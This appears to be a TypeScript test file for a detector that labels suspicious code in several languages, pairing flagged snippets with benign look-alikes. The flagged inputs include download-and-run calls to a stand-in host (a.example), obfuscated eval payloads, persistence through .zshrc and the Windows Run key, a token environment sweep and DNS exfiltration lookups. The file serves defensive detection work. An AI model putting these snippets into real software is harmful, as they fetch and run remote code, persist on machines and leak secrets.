import { does } from './does.ts';

describe('calls that a table of names cannot tell', () => {
  it.each([
    ['php', `copy('https://a.example/x', $t); chmod($t, 0755); exec($t);`, 'download-and-run'],
    ['php', `$u = 'https://a.example/x'; $b = file_get_contents($u);`, 'network'],
    ['php', `$t = tempnam($d, 'l'); file_put_contents($t, $code); include $t;`, 'dynamic-evaluation'],
    ['ruby', `instance_eval Zlib::Inflate.inflate(File.read('d.bin'))`, 'encoded-payload'],
    ['ruby', `d = [1, 2].map { |c| (c ^ 0x42).chr }.join\nObject.class_eval(d)`, 'encoded-payload'],
    ['ruby', `eval(['7075'].pack('H*'))`, 'encoded-payload'],
    ['ruby', `File.open(File.join(Dir.home, '.zshrc'), 'a') { |f| f << line }`, 'persistence'],
    ['php', `$p = implode('', ['ba', 'se64', '_decode']); $q = 'assert'; $q($p($x));`, 'encoded-payload'],
    ['ruby', `body = URI.open('https://a.example/x').read`, 'network'],
    ['ruby', `all = ENV.select { |k, _| k =~ /TOKEN/ }`, 'environment-sweep'],
    [
      'csharp',
      'byte[] b = new WebClient().DownloadData(u); Assembly.Load(b).EntryPoint.Invoke(null, a);',
      'download-and-run',
    ],
    [
      'csharp',
      String.raw`var k = Registry.CurrentUser.OpenSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run", true); k.SetValue("U", p);`,
      'persistence',
    ],
    ['csharp', 'var c = Encoding.UTF8.GetString(Convert.FromBase64String(s));\nProcess.Start(c);', 'encoded-payload'],
    [
      'java',
      'new URLClassLoader(new URL[] { new URL("https://a.example/p.jar") }).loadClass("P");',
      'download-and-run',
    ],
    ['java', 'byte[] b = Base64.getDecoder().decode(s);\nreturn defineClass(null, b, 0, b.length);', 'encoded-payload'],
    ['java', `'curl -s https://a.example/x -o /tmp/x'.execute()`, 'process'],
    ['java', `Eval.me(new String(text.decodeBase64()))`, 'encoded-payload'],
    ['go', 'os.WriteFile(p, body, 0o755)\nexec.Command(p).Start()', 'executable-written'],
    ['rust', 'format!("{}.{}.cb.a.example:80", u, h).to_socket_addrs()', 'dns-exfiltration'],
    ['php', 'gethostbyname("$i.$part.x.a.example");', 'dns-exfiltration'],
  ] as const)('are told in %s: %s', (language, code, kind) => {
    expect(does(code, language)).toContain(kind);
  });

  it.each([
    ['php', `file_put_contents($cache, $compiled); return file_get_contents('data.json');`],
    ['php', `include $file;`],
    ['ruby', `text = File.open(path, 'r') { |f| f.read }`],
    ['ruby', `n = list.pack('N*'); s = File.open('a')`],
    ['ruby', `mine = ENV.select { |k, _| k.start_with?('ACME_') }`],
    ['csharp', 'var a = Assembly.Load("Acme.Core");'],
    ['csharp', 'var a = Assembly.Load(new AssemblyName(name));'],
    ['csharp', 'options.SetValue("a", 1);'],
    ['java', 'executor.execute(task); new URL(base, path);'],
    ['go', 'os.WriteFile(p, body, 0o644)'],
    ['rust', 'format!("{}:{}", host, port).to_socket_addrs()'],
    ['php', 'gethostbyname($host);'],
  ] as const)('are nothing of note in %s otherwise: %s', (language, code) => {
    expect(does(code, language)).toEqual([]);
  });
});
